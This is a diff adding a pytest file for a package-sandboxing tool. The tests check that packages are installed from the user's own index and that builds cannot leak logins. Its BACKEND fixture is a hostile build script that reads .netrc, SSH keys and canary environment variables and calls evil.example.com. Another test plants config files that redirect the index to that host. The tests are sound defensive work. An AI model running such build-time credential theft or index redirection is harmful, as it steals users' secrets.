@@ -1,0 +1,189 @@
+"""A Python package is fetched once too: wheels only, from the user's own index, without a login."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Final
+
+import pytest
+
+from driver import Home, started
+from net.conftest import Machine
+from net.publishing import publish_source
+from net.registry import NAME, make_python_index
+from net.user import HOST
+
+UVX: Final = ("uvx", NAME)
+
+# A package that is there as source only; building it runs this.
+BACKEND: Final = """
+import json, os, ssl, urllib.request
+def found():
+    tried = {"env": [n for n in os.environ if "CANARY" in os.environ[n]]}
+    for name in (".netrc", ".ssh/id_rsa"):
+        for home in (os.path.expanduser("~"), OUTSIDE):
+            try:
+                tried[home + name] = open(os.path.join(home, name)).read()
+            except OSError as error:
+                pass
+    for host in ("evil.example.com", "93.184.216.35"):
+        try:
+            context = ssl._create_unverified_context()
+            urllib.request.urlopen(f"https://{host}/STOLEN", timeout=5, context=context)
+            tried[host] = "reached"
+        except OSError:
+            pass
+    return {name: what for name, what in tried.items() if what}
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    import zipfile
+    about = "source_server-1.0.dist-info"
+    parts = {
+        "source_server.py": "FOUND = " + json.dumps(found()) + "\\ndef main(): pass\\n",
+        about + "/METADATA": "Metadata-Version: 2.1\\nName: source-server\\nVersion: 1.0\\n",
+        about + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\n"
+        "Tag: py3-none-any\\n",
+        about + "/entry_points.txt": "[console_scripts]\\nsource-server = source_server:main\\n",
+    }
+    parts[about + "/RECORD"] = "".join(n + ",,\\n" for n in (*parts, about + "/RECORD"))
+    name = "source_server-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
+        for path, text in parts.items():
+            archive.writestr(path, text)
+    return name
+"""
+PROJECT: Final = """
+[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["."]
+[project]
+name = "source-server"
+version = "1.0"
+"""
+
+
+class User:
+    """Somebody on the machine with an index of their own."""
+
+    def __init__(self, machine: Machine, home: Home, index: str) -> None:
+        self.machine = machine
+        self.home = home
+        self.folder = machine.folder / index
+        self.folder.mkdir()
+        self.url = f"https://{HOST}/{index}"
+        self.packages = home.path / ".local/share/mcp-jail/packages/pypi"
+
+    def policy(self, command: tuple[str, ...], more: str = "") -> None:
+        self.home.write_policy(
+            f"server: {{command: {json.dumps(list(command))}}}\ntools: {{default: allow}}\n{more}"
+        )
+
+    def does(self, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
+        own = self.home.environ(SSL_CERT_FILE=str(self.machine.certificate))
+        own["PATH"] = f"{Path(sys.executable).parent}:{own['PATH']}"
+        given = {"UV_DEFAULT_INDEX": f"{self.url}/"} | own | env
+        words = self.machine.words(*arguments)
+        return subprocess.run(
+            words, env=given, cwd=self.home.path, text=True, capture_output=True, check=False
+        )
+
+    def requests(self) -> list[str]:
+        lines = self.machine.log("requests").splitlines()
+        return [line for line in lines if f"/{self.folder.name}/" in line]
+
+
+@pytest.fixture
+def user(machine: Machine, home: Home, tmp_path: Path) -> User:
+    return User(machine, home, f"pypi-{tmp_path.parent.name}-{tmp_path.name}")
+
+
+def source(user: User) -> None:
+    """An index with a package that is there as source only."""
+    mark = f"stolen-{user.folder.name}"
+    backend = BACKEND.replace("OUTSIDE", json.dumps(str(user.home.path))).replace("STOLEN", mark)
+    files = {"pyproject.toml": PROJECT, "backend.py": backend, "PKG-INFO": METADATA}
+    publish_source(user.folder, user.url, "source_server", files, page="source-server")
+
+
+METADATA: Final = "Metadata-Version: 2.1\nName: source-server\nVersion: 1.0\n"
+
+
+def test_a_pinned_server_starts_without_its_index_and_asks_for_nothing(user: User) -> None:
+    make_python_index(user.folder, user.url)
+    user.policy(UVX)
+    done = user.does("install", "fs", "--json")
+    assert done.returncode == 0, done.stderr
+    facts = json.loads(done.stdout)
+    assert (facts["pypi"], facts["version"], facts["written"]) == (NAME, "1.0", True)
+    before = len(user.home.audit())
+    # Not on that machine any more, so there is no index.
+    for command in ((), ("--", *UVX)):
+        with started(user.home, "run", "fs", *command) as client:
+            client.open()
+            assert client.request("tools/list")["result"]["tools"][0]["name"] == "who"
+            assert client.close() == 0
+    assert [entry for entry in user.home.audit()[before:] if entry["kind"] == "net"] == []
+
+
+def test_byte_code_is_there_and_no_start_writes_any(user: User) -> None:
+    make_python_index(user.folder, user.url)
+    user.policy(UVX)
+    assert user.does("install", "fs").returncode == 0
+    tree = user.packages / f"{NAME}@1.0" / "tree"
+    assert list(tree.rglob("tiny_server.*.pyc"))
+    before = sorted(tree.rglob("*"))
+    with started(user.home, "run", "fs") as client:
+        client.open()
+        assert client.close() == 0
+    assert sorted(tree.rglob("*")) == before
+
+
+def test_what_is_there_as_source_only_is_not_built(user: User) -> None:
+    source(user)
+    user.policy(("uvx", "source-server@1.0"))
+    done = user.does("install", "fs")
+    assert done.returncode == 6
+    assert "scripts: allow" in done.stderr
+    assert not user.packages.exists() or list(user.packages.iterdir()) == []
+
+
+def test_a_build_that_is_allowed_finds_no_login_and_reaches_nobody_else(user: User) -> None:
+    source(user)
+    netrc = user.home.path / ".netrc"
+    netrc.write_text(f"machine {HOST} login me password CANARY\n")
+    netrc.chmod(0o600)
+    package = 'package: {pypi: source-server, version: "1.0", scripts: allow}\n'
+    user.policy(("uvx", "source-server"), package)
+    done = user.does("install", "fs")
+    assert done.returncode == 0, done.stderr
+    tree = user.packages / "source-server@1.0+scripts" / "tree"
+    (module,) = tree.rglob("source_server.py")
+    assert module.read_text().startswith("FOUND = {}\n")
+    assert not [line for line in user.requests() if not line.endswith(" -")]
+    assert f"stolen-{user.folder.name}" not in user.machine.log("requests")
+
+
+def test_a_login_is_used_where_no_code_of_the_package_runs(user: User) -> None:
+    make_python_index(user.folder, user.url)
+    netrc = user.home.path / ".netrc"
+    netrc.write_text(f"machine {HOST} login me password CANARY\n")
+    netrc.chmod(0o600)
+    user.policy(UVX)
+    assert user.does("install", "fs").returncode == 0
+    kept = [path for path in user.packages.rglob("*") if path.is_file() and not path.is_symlink()]
+    assert kept
+    assert not any(b"CANARY" in path.read_bytes() for path in kept)
+
+
+def test_a_project_does_not_name_the_index(user: User) -> None:
+    make_python_index(user.folder, user.url)
+    user.policy(UVX)
+    evil = '[[index]]\nurl = "https://evil.example.com/simple"\ndefault = true\n'
+    (user.home.path / "uv.toml").write_text(evil)  # where the command is given
+    (user.home.path / "pyproject.toml").write_text("[tool.uv]\nindex-url = 'https://evil'\n")
+    done = user.does("install", "fs")
+    assert done.returncode == 0, done.stderr
+    assert user.requests()
